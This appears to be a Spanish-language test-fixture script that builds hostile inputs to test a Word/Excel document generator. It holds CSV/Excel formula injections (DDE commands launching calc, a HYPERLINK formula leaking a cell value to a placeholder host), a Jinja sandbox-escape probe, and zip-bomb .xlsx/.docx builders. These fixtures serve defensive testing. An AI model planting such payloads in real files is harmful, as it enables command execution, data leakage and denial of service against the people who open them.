"""Construye los casos hostiles que no se guardan como archivo (binarios grandes o derivados).

Uso manual (escribe todos los casos en una carpeta, para abrirlos o probarlos a mano)::

    python tests/hostiles/construir.py /tmp/hostiles

Las pruebas importan estas funciones y construyen cada caso en una carpeta temporal:
una bomba zip de 1 GB no se guarda en el repositorio, ni una plantilla derivada de la
oficial (cambiaría cada vez que la oficial cambie).

``python tests/hostiles/construir.py --json`` vuelve a escribir los casos guardados de esta
carpeta: los JSON, el CSV con comillas y la imagen dañada (se guardan en el repositorio:
así se leen y se revisan en un diff).
"""

from __future__ import annotations

import json
import sys
import zipfile
from pathlib import Path
from typing import Any

AQUI = Path(__file__).resolve().parent
sys.path.insert(0, str(AQUI.parent))

from apoyo_seguridad import plantilla_modificada, plantilla_restilizada  # noqa: E402

# ------------------------------------------------------------- textos hostiles

MARCAS = "<w:t>&amp; </w:p> ]]> <![CDATA[x]]> \"comillas\" 'simples' & < >"
JINJA = "{{ 7*7 }} {% for x in y %}{% endfor %} {# comentario #} {_{ x }_} {%p if %} {{r x }}"
CONTROL = "\x00\x01\x07\x08\x0b\x0c\x0e\x1f\x7f\x80\x85\x9f\ufffe\uffff\ud800"
UNICODE = "👩🏽‍💻 𝔸𝕓𝕔 \U0010fffd مرحبا بالعالم שלום \u202eتكس\u202c e\u0301 ñÑ \ufeff\u200d"
FORMULAS = "=1+1"
SALTOS = "línea 1\r\nlínea 2\rlínea 3\u2028línea 4\u2029párrafo 2\n\npárrafo 3\ttab"


def hostil(rotulo: str) -> str:
    """Un texto con todo lo anterior, con un rótulo al principio para saber de qué campo es."""
    return f"{rotulo}: {MARCAS} | {JINJA} | {CONTROL} | {UNICODE} | {SALTOS}"


# Valores personales de los casos (inventados). Las pruebas los buscan en todo lo que sale.
PERSONALES_FICHA = {
    "directivo": "Hernán Darío Vélez Ochoa",
    "colaborador": "Zoraida Quintero Ñáñez",
    "telefono": "+57 601 7654321 ext. 4471",
    "correo": "zoraida.quintero@alcaldiabogota.gov.co",
}


def ficha_texto_hostil() -> dict[str, Any]:
    return {
        "encabezado": {"entidad": hostil("entidad"), "proceso": hostil("proceso del encabezado"),
                       "procedimiento": hostil("procedimiento"), "formato": hostil("formato"),
                       "codigo": "=4202000-FT-1311", "version": "+01"},
        "fecha_diligenciamiento": "24/10/2023",
        "nombre": hostil("nombre"),
        "dependencia": "=HYPERLINK(\"http://ejemplo.invalid\",\"clic\")",
        **PERSONALES_FICHA,
        "proceso": hostil("proceso"),
        "equipo": "@SUMA(A1:A9)",
        "tipo_vinculacion": "-Contratista",
        "fecha_inicio": "2023-03-01",
        "descripcion": hostil("descripcion"),
        "linea_base": hostil("linea_base"),
        "poblacion_objetivo": hostil("poblacion_objetivo"),
        "alcance": hostil("alcance"),
        "aporte": hostil("aporte"),
        "difusion": hostil("difusion"),
        "otros_aspectos": "",
        "retos": [hostil("reto 1"), "\t=2+2", "\r+3"],
        "estabilidad": hostil("estabilidad"),
        "conclusiones": hostil("conclusiones"),
        "anexos": [{"nombre": hostil("anexo"), "descripcion": hostil("descripcion del anexo")}],
    }


PERSONALES_ACUERDO = {
    "representante": "Maximiliano Arboleda Rengifo",
    "correo": "maximiliano.arboleda@ejemplo.gov.co",
}


def acuerdo_texto_hostil() -> dict[str, Any]:
    from acuerdo_docs.documentos.acuerdo import ejemplo_acuerdo

    datos = json.loads(ejemplo_acuerdo().model_dump_json(exclude_defaults=False))
    datos["desafio"] = {"nombre": hostil("desafío"), "descripcion": hostil("descripción del desafío")}
    datos["lugar"] = hostil("lugar")
    datos["alcance"] = hostil("alcance")
    datos["objetivo"] = hostil("objetivo")
    datos["facilitador"]["aporte"] = hostil("aporte del facilitador")
    actor = datos["actores"][1]
    actor.update(PERSONALES_ACUERDO)
    actor["entidad"] = "=" + hostil("entidad")
    actor["cargo"] = "+" + hostil("cargo")
    actor["rol"] = hostil("rol")
    actor["responsabilidades"] = [hostil("responsabilidad"), "-menos", "@arroba"]
    actor["compromisos"] = [{"tipo": "recursos", "descripcion": hostil("compromiso")}]
    # La respuesta del actor por su enlace de validación: su comentario también llega al Word.
    actor["validacion"] = {"decision": "valida", "momento": "2026-12-06T08:15:00-05:00",
                           "comentario": hostil("comentario del actor")}
    hito = datos["hoja_de_ruta"][0]
    hito["actividad"] = "=" + hostil("actividad")
    hito["fase"] = "\t" + hostil("fase")
    if datos.get("riesgos"):
        riesgo = datos["riesgos"][0]
        riesgo["descripcion"] = "=" + hostil("riesgo")
        riesgo["plan_accion"] = "@" + hostil("plan")
        riesgo["causa"] = "+" + hostil("causa")
        riesgo["consecuencia"] = "-" + hostil("consecuencia")
    return datos


def riesgos_formulas() -> dict[str, Any]:
    """Una matriz de riesgos cuyos textos son todos inyecciones de fórmulas (CSV/Excel)."""
    return {
        "entidad": "=HYPERLINK(\"http://ejemplo.invalid/robo?\"&A1,\"Clic aquí\")",
        "desafio": "+cmd|' /C calc'!A0",
        "fecha": "2023-10-24",
        "riesgos": [
            {
                "id": "=R1",
                "descripcion": "=1+1",
                "causa": "+SUMA(1;1)",
                "consecuencia": "-2+3",
                "clasificacion": "Fallas tecnológicas",
                "probabilidad": "Alta",
                "impacto": "Mayor",
                "controles": [
                    {"descripcion": "@SUMA(A1:A2)", "tipo": "preventivo", "implementacion": "manual",
                     "responsable": "\t=1+1"},
                    {"descripcion": "\r=2+2", "tipo": "correctivo", "implementacion": "automatico",
                     "responsable": "=DDE(\"cmd\";\"/C calc\";\"x\")"},
                ],
                "tratamiento": "reducir",
                "plan_accion": "=IMPORTXML(\"http://ejemplo.invalid\";\"//a\") " + CONTROL + " resto del texto",
                "responsable": "-@responsable",
            },
            {
                "id": "R2",
                "descripcion": "Texto normal con = en medio y + al final +",
                "clasificacion": "Fraude externo",
                "probabilidad": 1,
                "impacto": 1,
                "plan_accion": "{{ 7*7 }} <b>&amp;</b>",
            },
        ],
    }


def ficha_anexo_inexistente() -> dict[str, Any]:
    from apoyo_seguridad import practica_base

    return practica_base(anexos=[{"nombre": "Foto del taller", "archivo": "no_existe.png"}])


def ficha_imagen_danada() -> dict[str, Any]:
    from apoyo_seguridad import practica_base

    return practica_base(anexos=[{"nombre": "Foto del taller", "archivo": "imagen_danada.png"}])


def fichas_comillas_csv() -> str:
    """Un CSV como lo guarda Excel en español: «;», comillas dobladas, saltos de línea y fórmulas en las celdas."""
    import csv
    import io

    from acuerdo_docs.documentos.ficha import ejemplo_ficha
    from acuerdo_docs.lectores.columnas import valores_de
    from acuerdo_docs.lectores.fichas import COLUMNAS

    visibles = [c for c in COLUMNAS if c.en_plantilla]
    salida = io.StringIO()
    escritor = csv.writer(salida, delimiter=";", lineterminator="\r\n")
    escritor.writerow([c.encabezado for c in visibles])
    for i, (nombre, descripcion) in enumerate(COMILLAS_CSV, start=1):
        fila = valores_de(ejemplo_ficha(), visibles)
        fila.update(nombre=nombre, descripcion=descripcion, equipo=f"=cmd|' /C calc'!A{i}")
        escritor.writerow([fila.get(c.clave) for c in visibles])
    return salida.getvalue()


COMILLAS_CSV = [
    ('El "acuerdo" simbólico; versión 2', 'Dijo: "hola"; y se fue.\n\nSegundo párrafo con "comillas" y ; punto y coma'),
    ('"Entre comillas"', '=HYPERLINK("http://ejemplo.invalid";"clic")'),
    ("Comilla suelta \" al final", "Una línea\r\notra línea"),
]
"""(nombre, descripción) de cada fila del CSV con comillas."""


IMAGEN_DANADA = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x0dIHDR" + b"cortada"
"""Firma PNG correcta y el resto cortado: pasa una revisión de la firma, no la lectura."""

JSON_HOSTILES = {
    "ficha_texto_hostil.json": ficha_texto_hostil,
    "acuerdo_texto_hostil.json": acuerdo_texto_hostil,
    "riesgos_formulas.json": riesgos_formulas,
    "ficha_anexo_inexistente.json": ficha_anexo_inexistente,
    "ficha_imagen_danada.json": ficha_imagen_danada,
}


def escribir_json(carpeta: Path = AQUI) -> list[Path]:
    """Escribe los casos que se guardan en el repositorio (JSON, el CSV con comillas y la imagen dañada)."""
    escritos = []
    for nombre, fabrica in JSON_HOSTILES.items():
        ruta = carpeta / nombre
        # ensure_ascii: los caracteres de control y los sustitutos sueltos quedan como \\uXXXX legibles.
        ruta.write_text(json.dumps(fabrica(), ensure_ascii=True, indent=2) + "\n", encoding="utf-8")
        escritos.append(ruta)
    (carpeta / "imagen_danada.png").write_bytes(IMAGEN_DANADA)
    (carpeta / "fichas_comillas.csv").write_bytes(fichas_comillas_csv().encode("utf-8"))
    return [*escritos, carpeta / "imagen_danada.png", carpeta / "fichas_comillas.csv"]


# ---------------------------------------------------------------- binarios


def bomba_zip_xlsx(destino: Path, descomprimido_mb: int = 1024) -> Path:
    """Un «.xlsx» de pocos KB cuya hoja se expande a ``descomprimido_mb`` MB (bomba de descompresión).

    Se escribe en flujo: nunca se tiene el contenido entero en memoria.
    """
    bloque = b"<row>" + b" " * (1024 * 1024 - 11) + b"</row>"
    with zipfile.ZipFile(destino, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"/>')
        zf.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
                    'spreadsheetml/2006/main"><sheets><sheet name="fichas" sheetId="1" r:id="rId1" '
                    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets>'
                    '</workbook>')
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as hoja:
            for _ in range(descomprimido_mb):
                hoja.write(bloque)
    return destino


def bomba_zip_docx(destino: Path, descomprimido_mb: int = 1024) -> Path:
    """Un «.docx» de pocos KB cuyo document.xml se expande a ``descomprimido_mb`` MB."""
    bloque = b"<w:p>" + b" " * (1024 * 1024 - 11) + b"</w:p>"
    with zipfile.ZipFile(destino, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"/>')
        with zf.open("word/document.xml", "w", force_zip64=True) as documento:
            for _ in range(descomprimido_mb):
                documento.write(bloque)
    return destino


def libro_con_filas(destino: Path, filas: int) -> Path:
    """Un libro de fichas (hecho con plantilla-lote) con ``filas`` filas de datos válidas."""
    import openpyxl

    from acuerdo_docs.documentos.ficha import ejemplo_ficha
    from acuerdo_docs.documentos.plantilla_lote import generar_plantilla_lote
    from acuerdo_docs.lectores.columnas import valores_de
    from acuerdo_docs.lectores.fichas import COLUMNAS

    visibles = [c for c in COLUMNAS if c.en_plantilla]
    generar_plantilla_lote("fichas", destino)
    wb = openpyxl.load_workbook(destino)
    ws = wb["fichas"]
    base = valores_de(ejemplo_ficha(), visibles)
    for i in range(filas):
        fila = dict(base, nombre=f"Práctica {i + 1}")
        ws.append([fila.get(c.clave) for c in visibles])
    wb.save(destino)
    return destino


NOMBRE = "{{ practica.nombre }}"


def plantilla_variable_desconocida(destino: Path) -> Path:
    return plantilla_modificada(destino, {NOMBRE: "{{ practica.nombre_practica }}"})


def plantilla_interior_python(destino: Path) -> Path:
    return plantilla_modificada(destino, {NOMBRE: NOMBRE + " {{ ''.__class__ }}"})




def escribir_binarios(carpeta: Path) -> list[Path]:
    carpeta.mkdir(parents=True, exist_ok=True)
    return [
        bomba_zip_xlsx(carpeta / "bomba_zip.xlsx"),
        bomba_zip_docx(carpeta / "bomba_zip.docx"),
        libro_con_filas(carpeta / "libro_11_filas.xlsx", 11),
        plantilla_variable_desconocida(carpeta / "plantilla_variable_desconocida.docx"),
        plantilla_interior_python(carpeta / "plantilla_interior_python.docx"),
        plantilla_restilizada(carpeta / "plantilla_restilizada.docx"),
    ]


if __name__ == "__main__":
    if sys.argv[1:] == ["--json"]:
        for ruta in escribir_json():
            print(f"Escrito: {ruta}")
    elif len(sys.argv) == 2:
        for ruta in escribir_binarios(Path(sys.argv[1])):
            print(f"Escrito: {ruta}")
    else:
        print(__doc__)
        raise SystemExit(2)
